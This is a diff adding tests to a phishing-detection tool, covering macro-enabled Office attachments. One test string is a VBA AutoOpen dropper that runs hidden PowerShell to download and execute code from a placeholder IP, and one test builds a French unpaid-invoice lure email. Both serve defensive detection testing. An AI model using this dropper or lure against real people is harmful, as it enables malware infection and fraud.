@@ -7,15 +7,18 @@ from __future__ import annotations
 import io
 import zipfile
 import zlib
+from email.message import EmailMessage
 from pathlib import Path
 
 import zxingcpp
 from PIL import Image
 from tests.conftest import shared_data
 from tests.phishing.checks.test_attachments import attachment, codes, message, reasons, zip_of
+from tests.phishing.checks.vba_craft import docm, vba_project
 
+from tocsin.phishing.analyze import analyze_bytes
 from tocsin.phishing.checks.attachments import attachment_links
-from tocsin.phishing.model import Source
+from tocsin.phishing.model import Source, Verdict
 from tocsin.phishing.parse import parse_message
 
 # --- Office -------------------------------------------------------------------------------
@@ -263,3 +266,54 @@ def test_zip_holding_a_docx_is_opened_as_a_document() -> None:
     found = reasons(attachment("commande.zip", archive))
     assert any(r.code == "attachment.office-external" and "commande.zip" in r.detail for r in found)
     assert zipfile.is_zipfile(io.BytesIO(archive))
+
+
+# --- VBA macros: projects written by vba_craft (MS-OVBA / MS-CFB), no sample committed ----
+_DROPPER = """Attribute VB_Name = "Module1"
+Sub AutoOpen()
+    Dim s As String
+    s = "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
+    CreateObject("WScript.Shell").Run s, 0
+End Sub
+"""
+_HARMLESS = """Attribute VB_Name = "Module1"
+Function Total(a As Double, b As Double) As Double
+    Total = a + b
+End Function
+"""
+
+
+def test_a_docm_whose_macro_runs_on_opening_and_starts_powershell() -> None:
+    found = {r.code: r for r in reasons(attachment("Facture_2026-114.docm", docm(_DROPPER)))}
+    assert {"attachment.macro", "attachment.macro-autoexec", "attachment.macro-suspicious"} <= set(
+        found
+    )
+    assert "AutoOpen" in found["attachment.macro-autoexec"].detail
+    assert "powershell" in found["attachment.macro-suspicious"].detail
+    assert "attachment.macro-format" not in found  # the macro itself is the stronger reason
+
+
+def test_a_harmless_macro_is_still_a_macro_but_nothing_more() -> None:
+    assert codes(attachment("budget.xls", vba_project(_HARMLESS))) == {"attachment.macro"}
+
+
+def test_a_french_invoice_with_a_macro_is_phishing() -> None:
+    mail = EmailMessage()
+    mail["From"] = "Service Comptabilité <compta@fournisseur-medical.example>"
+    mail["To"] = "secretariat.cardio@chu-exemple.fr"
+    mail["Subject"] = "Facture impayée n° 2026-114 — relance avant pénalités"
+    mail.set_content(
+        "Bonjour,\n\nSauf erreur de notre part, la facture ci-jointe reste impayée. Merci "
+        "d'activer le contenu du document pour afficher le détail et de régulariser sous "
+        "48 heures afin d'éviter des pénalités de retard.\n\nCordialement,\nLa comptabilité"
+    )
+    mail.add_attachment(
+        docm(_DROPPER),
+        maintype="application",
+        subtype="vnd.ms-word.document.macroEnabled.12",
+        filename="Facture_2026-114.docm",
+    )
+    analysis = analyze_bytes(mail.as_bytes(), Source("facture.eml"))
+    assert analysis.verdict is Verdict.PHISHING, [(r.code, r.points) for r in analysis.reasons]
+    assert {"attachment.macro", "attachment.macro-autoexec"} <= {r.code for r in analysis.reasons}
+    assert analysis.indicators.hashes  # the attachment's SHA-256, to share
